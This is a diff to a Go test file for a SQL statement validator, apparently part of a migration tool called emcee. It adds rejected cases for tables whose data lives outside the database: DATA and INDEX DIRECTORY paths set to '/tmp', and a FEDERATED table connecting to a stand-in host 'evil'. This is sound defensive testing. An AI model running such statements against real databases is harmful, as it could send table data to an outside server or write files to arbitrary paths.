@@ -164,6 +164,12 @@ func TestPlanned(t *testing.T) {
 		"CREATE TRIGGER `t_bi` BEFORE INSERT ON `t` FOR EACH ROW SET NEW.`a` = GET_LOCK('x', 0)":        false,
 		"ALTER TABLE `t` ADD COLUMN `c` int NULL DEFAULT (RELEASE_LOCK('emcee:db')), ALGORITHM=INSTANT": false,
 		"DELETE FROM `t` WHERE (`a` = RELEASE_ALL_LOCKS())":                                             false,
+		// a table's data kept outside the database
+		"CREATE TABLE `t` (`id` int NOT NULL, PRIMARY KEY (`id`)) DATA DIRECTORY = '/tmp'":                                           false,
+		"CREATE TABLE `t` (`id` int NOT NULL, PRIMARY KEY (`id`)) INDEX DIRECTORY = '/tmp'":                                          false,
+		"CREATE TABLE `t` (`id` int NOT NULL, PRIMARY KEY (`id`)) ENGINE=FEDERATED CONNECTION='mysql://u@evil/db/t'":                 false,
+		"CREATE TABLE `t` (`id` int NOT NULL, PRIMARY KEY (`id`)) PARTITION BY HASH (`id`) (PARTITION `p0` DATA DIRECTORY = '/tmp')": false,
+		"CREATE TABLE `t` (`id` int NOT NULL, PRIMARY KEY (`id`)) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4 COMMENT='DATA DIRECTORY'":    true,
 		// session settings emcee never writes: how the server reads what
 		// follows, what reaches the replicas, a variable for later statements
 		"SET SESSION sql_mode = CONCAT(@@sql_mode, ',NO_BACKSLASH_ESCAPES')": false,
